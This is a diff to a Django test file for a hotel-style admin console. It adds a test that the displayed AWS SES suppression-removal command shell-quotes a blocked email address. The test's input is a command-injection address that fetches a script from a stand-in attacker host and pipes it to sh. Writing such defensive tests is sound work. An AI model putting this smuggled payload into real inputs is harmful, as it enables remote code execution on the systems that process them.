@@ -2,8 +2,12 @@
 
 from __future__ import annotations
 
+import shlex
+from html import unescape
+
 import pytest
 from django.contrib.auth.models import User
+from django.core.validators import validate_email
 from django.test import Client
 
 from jada.console.roles import make_roles
@@ -93,6 +97,19 @@ def test_a_blocked_address_says_why_since_when_and_how_to_free_it_at_the_service
     assert "Mail to it bounces" in html
     assert f"aws sesv2 delete-suppressed-destination --email-address {DANA}" in html
     assert "To the guest: booked" in html
+
+
+def test_the_command_for_the_mail_service_runs_nothing_that_stands_in_an_address(console: Client) -> None:
+    hostile = "`curl${IFS}evil.example|sh`@mail.example"
+    validate_email(hostile)  # a guest may well be booked with it
+    block = BlockedAddress.objects.create(address=hostile, trouble=Trouble.BOUNCED, since=NOW)
+
+    html = unescape(page(console, f"{BLOCKS}{block.pk}/change/"))
+
+    command = next(line for line in html.splitlines() if "delete-suppressed-destination" in line)
+    said = command[command.index("aws sesv2") :].partition("</")[0]
+    assert shlex.split(said)[-1] == hostile
+    assert f"'{hostile}'" in said
 
 
 def test_the_office_lifts_a_block(console: Client) -> None:
